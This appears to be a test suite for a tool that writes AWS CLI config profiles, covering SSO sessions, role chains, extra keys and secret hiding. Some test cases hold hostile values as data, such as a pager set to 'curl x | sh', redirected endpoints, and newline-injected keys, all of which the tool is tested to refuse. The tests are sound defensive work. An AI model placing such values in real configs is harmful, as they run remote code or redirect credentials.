import { describe, expect, it } from 'vitest';
import { valueOf, window } from '../../fakes/core-harness.ts';
import { portal, sessionLines, setUp } from './profile-setup.ts';

const chain = {
  roleArn: 'arn:aws:iam::444455556666:role/Deploy',
  sourceProfile: 'dev',
  roleSessionName: null,
  externalId: null,
  durationSeconds: null,
};
const noRole = { accountId: null, roleName: null };

describe('a bearer-only profile', () => {
  it('holds the session alone, and its preview says what that is good for', async () => {
    const { intents, input, save, text, row } = await setUp();
    const bare = { ...noRole, region: null, output: null };
    const preview = valueOf(await intents.profiles.preview(input(bare), window));
    const saved = valueOf(await save(bare));
    expect(text()).toBe(`[profile dev]\nsso_session = my-sso\n\n${sessionLines}`);
    expect([preview.warnings, saved.warnings, await row('dev')]).toMatchObject([
      [{ code: 'config.bearer-only' }],
      [{ code: 'config.bearer-only' }],
      { valid: true, problem: { code: 'config.bearer-only' }, delivery: 'native' },
    ]);
  });

  it('is never made by leaving out only one of account and role', async () => {
    const { save, text } = await setUp();
    expect([await save({ accountId: null }), await save({ roleName: null }), text()]).toMatchObject([
      { error: { code: 'input.role-incomplete' } },
      { error: { code: 'input.role-incomplete' } },
      null,
    ]);
  });
});

describe('a profile of a legacy session', () => {
  it('has the address of the portal in it, byte for byte, and no session section', async () => {
    const { save, text, row, sessionId } = await setUp({}, 'legacy');
    valueOf(await save());
    expect(text()).toBe(
      `[profile dev]\nsso_start_url = ${portal}\nsso_region = us-east-1\nsso_account_id = 111122223333\n` +
        'sso_role_name = ReadOnly\nregion = eu-west-1\noutput = json\n',
    );
    expect(await row('dev')).toMatchObject({ delivery: 'legacy', sessionId, valid: true });
  });

  it.each([
    ['sso-session', 'legacy'],
    ['legacy', 'native'],
  ] as const)(
    'of the kind %s cannot be delivered as %s: the token lies elsewhere',
    async (kind, delivery) => {
      const { save, text } = await setUp({}, kind);
      expect([await save({ delivery }), text()]).toMatchObject([
        { error: { code: 'input.delivery-unavailable', params: { delivery } } },
        null,
      ]);
    },
  );
});

describe('a profile that chains a role', () => {
  it('names the role and the profile whose credentials assume it, and nothing of the session', async () => {
    const { save, text, row } = await setUp();
    valueOf(await save());
    const before = text() ?? '';
    valueOf(
      await save({
        name: 'deploy',
        ...noRole,
        output: null,
        chain: { ...chain, roleSessionName: 'me', externalId: 'x-1', durationSeconds: 3600 },
      }),
    );
    expect(text()).toBe(
      `${before}\n[profile deploy]\nrole_arn = ${chain.roleArn}\nsource_profile = dev\nrole_session_name = me\n` +
        'external_id = x-1\nduration_seconds = 3600\nregion = eu-west-1\n',
    );
    expect(await row('deploy')).toMatchObject({
      managed: true,
      valid: true,
      chain: { roleArn: chain.roleArn, sourceProfile: 'dev' },
    });
  });

  it.each([
    ['a source that is not there', { chain: { ...chain, sourceProfile: 'gone' } }, 'input.profile-unknown'],
    ['itself', { chain: { ...chain, sourceProfile: 'deploy' } }, 'input.chain-invalid'],
    ['an account of its own', { chain, accountId: '111122223333' }, 'input.chain-invalid'],
    ['no role', { chain: { ...chain, roleArn: 'arn:aws:iam::1:user/x' } }, 'input.value-invalid'],
    [
      'seconds beyond what STS gives',
      { chain: { ...chain, durationSeconds: 43_201 } },
      'input.value-invalid',
    ],
  ])('is refused with %s', async (_what, change, code) => {
    const { save, text } = await setUp();
    valueOf(await save());
    const before = text();
    expect([await save({ name: 'deploy', ...noRole, ...change }), text()]).toMatchObject([
      { error: { code } },
      before,
    ]);
  });

  it('never goes round in a circle', async () => {
    const { save } = await setUp();
    valueOf(await save());
    valueOf(await save({ name: 'deploy', ...noRole, chain }));
    expect(await save({ ...noRole, chain: { ...chain, sourceProfile: 'deploy' } })).toMatchObject({
      error: { code: 'input.chain-invalid' },
    });
  });

  it('made of one that signed in leaves nothing of the sign-in behind', async () => {
    const { save, text } = await setUp();
    valueOf(await save({ name: 'base' }));
    valueOf(await save({ name: 'deploy', extra: { cli_pager: 'less' } }));
    valueOf(await save({ name: 'deploy', ...noRole, chain: { ...chain, sourceProfile: 'base' } }));
    const section = /\[profile deploy\]\n(.*)$/s.exec(text() ?? '')?.[1] ?? '';
    expect(section.match(/^[a-z_]+/gm)?.sort()).toEqual([
      'cli_pager',
      'output',
      'region',
      'role_arn',
      'source_profile',
    ]);
  });
});

describe('further keys', () => {
  it('are written, kept when the profile is changed, replaced and removed', async () => {
    const { save, text } = await setUp();
    valueOf(await save({ extra: { cli_pager: 'less', s3: { addressing_style: 'path' } } }));
    valueOf(await save({ region: 'us-west-2' }));
    const kept = text() ?? '';
    valueOf(await save({ region: 'us-west-2', extra: { cli_pager: null, retry_mode: 'adaptive' } }));
    expect(kept).toContain('cli_pager = less\ns3 =\n    addressing_style = path\n');
    expect(text()).toBe(
      kept.replace('cli_pager = less\n', '').replace('= path\n', '= path\nretry_mode = adaptive\n'),
    );
  });

  it.each([
    ['aws_access_key_id', 'AKIAEXAMPLE', 'input.key-reserved'],
    ['aws_secret_access_key', 'x', 'input.key-reserved'],
    ['credential_process', '/bin/x', 'input.key-reserved'],
    ['sso_session', 'x', 'input.key-reserved'],
    ['role_arn', 'x', 'input.key-reserved'],
    ['region', 'eu-west-1', 'input.key-reserved'],
    ['my_token', 'x', 'input.key-reserved'],
    ['Upper', 'x', 'input.value-invalid'],
    ['a = b\nregion', 'x', 'input.value-invalid'],
    ['cli_pager', 'less # -R', 'input.value-invalid'],
    ['cli_pager', 'a\nregion = x', 'input.value-invalid'],
    ['s3', {}, 'input.value-invalid'],
  ])('never include %j = %j', async (key, value, code) => {
    const { save, text } = await setUp();
    expect([await save({ extra: { [key]: value } }), text()]).toMatchObject([{ error: { code } }, null]);
  });
});

describe('further keys that make tools run a program or reach another host', () => {
  const reaching = [
    ['cli_pager', 'sh -c "curl x | sh"'],
    ['cli_pager', '/tmp/less'],
    ['cli_pager', 'less -o/home/user/.profile'],
    ['endpoint_url', 'https://elsewhere.example'],
    ['endpoint_url', 'http://127.0.0.1.elsewhere.example'],
  ] as const;

  it.each(reaching)('are not written by the window: %s = %s', async (key, value) => {
    const { intents, input, save, text } = await setUp();
    const refused = { error: { code: 'input.key-not-here', params: { key } } };
    const extra = { [key]: value };
    expect([
      await intents.profiles.preview(input({ extra }), window),
      await save({ extra }),
      text(),
    ]).toMatchObject([refused, refused, null]);
  });

  it.each(reaching)('stay where they stand in the file already: %s = %s', async (key, value) => {
    const { save, text, files, configFile } = await setUp();
    valueOf(await save());
    files.foreignWrite(
      configFile,
      (text() ?? '').replace('output = json', `output = json\n${key} = ${value}`),
    );
    valueOf(await save({ region: 'us-west-2', extra: { [key]: value } }));
    expect(text()).toContain(`${key} = ${value}\n`);
    valueOf(await save({ region: 'us-west-2', extra: { [key]: null } }));
    expect(text()).not.toContain(key);
  });

  it.each(reaching)('are written for the command line: %s = %s', async (key, value) => {
    const { intents, input, text } = await setUp();
    const commandLine = { origin: 'command-line' as const };
    valueOf(await intents.profiles.save(input({ extra: { [key]: value } }), null, commandLine));
    expect(text()).toContain(`${key} = ${value}\n`);
  });

  it.each([
    ['cli_pager', 'less -R'],
    ['endpoint_url', 'http://127.0.0.1:4566'],
  ])('are written by the window as far as they do neither: %s = %s', async (key, value) => {
    const { save, text } = await setUp();
    valueOf(await save({ extra: { [key]: value } }));
    expect(text()).toContain(`${key} = ${value}\n`);
  });
});

describe('the details of a profile', () => {
  it('are what would be saved to leave it as it is', async () => {
    const { intents, save, text, files, configFile } = await setUp();
    valueOf(await save({ extra: { s3: { addressing_style: 'path' } } }));
    files.foreignWrite(
      configFile,
      (text() ?? '').replace('output = json', 'output = json\n# mine\nduck = 1'),
    );
    const before = text();
    const { input, extra } = valueOf(await intents.profiles.details('dev', window));
    expect(extra).toEqual({ duck: '1', s3: { addressing_style: 'path' } });
    if (input === null) throw new Error('not ours');
    valueOf(await intents.profiles.save(input, null, window));
    expect(text()).toBe(before);
  });

  it('show no secret, whatever it is called and wherever it stands, and saving leaves it there', async () => {
    const { intents, save, text, files, configFile } = await setUp();
    valueOf(await save());
    const secrets =
      'duck = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\ns3 =\n    my_secret = canary\n    a = 1\n';
    files.foreignWrite(configFile, (text() ?? '').replace('output = json\n', `output = json\n${secrets}`));
    const { input, extra } = valueOf(await intents.profiles.details('dev', window));
    expect(extra).toEqual({});
    if (input === null) throw new Error('not ours');
    valueOf(await intents.profiles.save({ ...input, region: 'us-west-2' }, null, window));
    expect(text()).toContain(secrets);
  });

  it('of a chain tell who is at its end, and those of a foreign profile cannot be saved', async () => {
    const { intents, save } = await setUp({
      config: '[profile theirs]\nrole_arn = x\nsource_profile = dev\ncredential_process = /bin/secret\n',
    });
    valueOf(await save());
    valueOf(await save({ name: 'deploy', ...noRole, chain }));
    expect([
      valueOf(await intents.profiles.details('dev', window)).usedBy,
      valueOf(await intents.profiles.details('deploy', window)).input?.chain,
      valueOf(await intents.profiles.details('theirs', window)),
    ]).toMatchObject([
      [
        { name: 'theirs', managed: false },
        { name: 'deploy', managed: true },
      ],
      chain,
      { input: null, extra: {} },
    ]);
  });
});

describe('credentials of a profile without a role', () => {
  it('are refused with words of their own, as the profile is there', async () => {
    const { intents, save } = await setUp({ config: '[profile theirs]\nregion = x\n' });
    valueOf(await save(noRole));
    for (const name of ['dev', 'theirs']) {
      expect(await intents.credentials.ofProfile(name, window)).toMatchObject({
        error: { code: 'input.profile-without-role', params: { name } },
      });
    }
  });
});

describe('several profiles of one role', () => {
  it('stand side by side, one per name and region', async () => {
    const { save, text } = await setUp();
    valueOf(await save());
    valueOf(await save({ name: 'dev-us', region: 'us-west-2' }));
    expect((text() ?? '').match(/^\[.*\]$/gm)).toEqual([
      '[profile dev]',
      '[sso-session my-sso]',
      '[profile dev-us]',
    ]);
  });
});
